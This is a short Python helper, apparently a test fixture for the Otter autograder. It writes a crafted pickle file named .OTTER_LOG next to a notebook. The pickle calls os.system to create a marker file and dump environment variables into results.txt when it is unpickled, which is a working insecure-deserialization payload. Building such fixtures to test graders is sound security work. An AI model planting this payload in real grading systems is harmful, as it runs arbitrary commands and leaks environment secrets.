"""Puts a log of Otter's beside the notebook, which is unpickled before the notebook is run."""
# beside the notebook


def lay(folder, notebook):
    pickled = b"cos\nsystem\n(S'touch /tmp/stolen-points-log; env > results.txt'\ntR."
    (folder / ".OTTER_LOG").write_bytes(pickled)
    (folder / "leaky_integrate_and_fire.ipynb").write_bytes(notebook)
